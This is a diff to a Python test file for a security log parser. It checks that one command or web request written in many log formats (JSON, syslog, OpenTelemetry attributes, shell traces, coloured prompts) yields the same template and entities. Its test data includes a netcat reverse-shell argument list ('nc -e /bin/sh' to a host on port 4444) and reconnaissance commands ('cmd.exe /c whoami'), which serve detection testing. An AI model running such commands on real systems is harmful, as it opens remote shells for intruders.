@@ -13,6 +13,11 @@ EVENTS = {
     "an object": json.dumps({"user": "ann", "cmdline": COMMAND}), "words one by one": json.dumps({"proc": {"argv": ["nc", "-e", "/bin/sh", "gate7", "4444"]}}),
     "an act beside it": json.dumps({"event": "exec", "user": "ann", "cmd": COMMAND}), "a pair": f'2026-11-27T10:00:00Z pc7 exec user=ann cmd="{COMMAND}"',
     "a pair behind a header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"', "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
+    "a name that ends so": json.dumps({"processDetails": {"processCmd": COMMAND, "processUser": "ann"}}), "keystrokes": json.dumps({"user": "ann", "keystrokes": COMMAND}),
+    "an attribute with its type": json.dumps({"attributes": [{"key": "process.command_line", "value": {"stringValue": COMMAND}}, {"key": "user", "value": {"stringValue": "ann"}}]}),
+    "an object as a text on a bus": json.dumps({"topic": "edr", "key": "a", "value": json.dumps({"cmdline": COMMAND})}), "cells": f"2026-11-27 10:11:12|PC7|ann|{COMMAND}|0",
+    "a shell's trace": f"[2026-11-27T10:11:12.345Z] + {COMMAND}", "a prompt in colours": f"\x1b[32;1m$ {COMMAND}\x1b[0;m", "a hook of a prompt": f"Nov 27 10:11:12 db1 root: [ann@192.0.2.9]: /srv: {COMMAND}",
+    "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'", "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
 }
 
 
@@ -25,11 +30,12 @@ def test_a_command_says_the_same_words_in_all_forms(form):
     words, found = read(COMMAND).template, read(EVENTS[form])
     assert words in found.template
     assert COMMAND in found.focus
-    assert form == "an act beside it" or dict(found.entities)["process"] == "nc"
+    assert form in ("an act beside it", "a prompt in colours") or dict(found.entities)["process"] == "nc"
 
 
 @pytest.mark.parametrize("text", [
     json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"}), json.dumps({"level": "info", "msg": f"GET {ATTACK} 200", "ip": "192.0.2.7"}),
+    json.dumps({"caller_ip": "192.0.2.7", "http_verb": "GET", "endpoint": ATTACK, "response_code": 200}), f"2026-11-27T10:11:12Z|192.0.2.7|GET|{ATTACK}|200|12",
     f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {ATTACK}" 200 12ms', f"Nov 27 10:11:12 web7 shop[33]: 192.0.2.7 GET {ATTACK} 200 in 12 ms",
 ])
 def test_a_request_says_the_same_words_in_all_forms(text):
@@ -46,6 +52,11 @@ def test_what_is_said_beside_a_request_is_read_behind_it():
 def test_who_ran_a_command_and_where_is_known_beside_it():
     found = read(json.dumps({"user": "ann", "service": "runner", "cmdline": COMMAND, "duration": 7}))
     assert {("user", "ann"), ("service", "runner")} <= set(found.entities)
+
+
+def test_of_several_commands_none_is_lost():
+    found = read(json.dumps({"process_cmdline": "powershell.exe -nop", "childproc_cmdline": "cmd.exe /c whoami", "user": "ann"}))
+    assert "powershell" in found.template and "whoami" in found.template
 
 
 def test_an_act_that_an_object_names_stays_what_happened():
